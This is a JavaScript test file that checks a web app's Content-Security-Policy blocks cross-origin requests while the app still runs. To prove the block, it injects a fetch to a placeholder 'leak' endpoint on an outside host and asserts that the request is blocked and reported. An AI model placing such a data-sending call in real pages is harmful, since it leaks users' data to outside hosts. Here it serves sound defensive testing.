// The Content-Security-Policy in the built index.html blocks any request to another origin, even
// one made by injected script, and the app still runs under it.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { startApp, openPage } from './harness.mjs';

let app;
before(async () => { app = await startApp(); });
after(async () => { await app?.close(); });

test('the policy allows the app and blocks an injected fetch to another origin', async () => {
  const t = await openPage(app);
  await t.page.goto(app.url);
  await t.page.getByRole('heading', { level: 1 }).waitFor();
  const policy = await t.page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  assert.match(policy, /connect-src 'self'/);
  assert.doesNotMatch(policy, /'unsafe-eval'/);
  assert.doesNotMatch(policy, /'unsafe-inline'/);

  const fetched = await t.page.evaluate(async () => {
    window.violations = [];
    document.addEventListener('securitypolicyviolation', (e) => window.violations.push(`${e.violatedDirective} ${e.blockedURI}`));
    try {
      await fetch('https://example.invalid/leak', { mode: 'no-cors' });
      return 'sent';
    } catch (err) {
      return `blocked: ${err.name}`;
    }
  });
  // The violation is reported as an event of its own: wait for it rather than for time.
  if (!fetched.startsWith('sent')) await t.page.waitForFunction(() => window.violations.length > 0);
  const outcome = { fetched, violations: await t.page.evaluate(() => window.violations) };
  assert.match(outcome.fetched, /^blocked/);
  assert.ok(
    outcome.violations.some((v) => v.startsWith('connect-src') && v.includes('example.invalid')),
    `violations: ${JSON.stringify(outcome.violations)}`,
  );
  // The policy stopped it inside the page: the request never reached the network layer.
  assert.deepEqual(t.foreign, []);
  // The blocked fetch logs a console error by design; nothing else may.
  assert.deepEqual(t.errors.filter((e) => !e.includes('Content Security Policy')), []);
  await t.close();
});
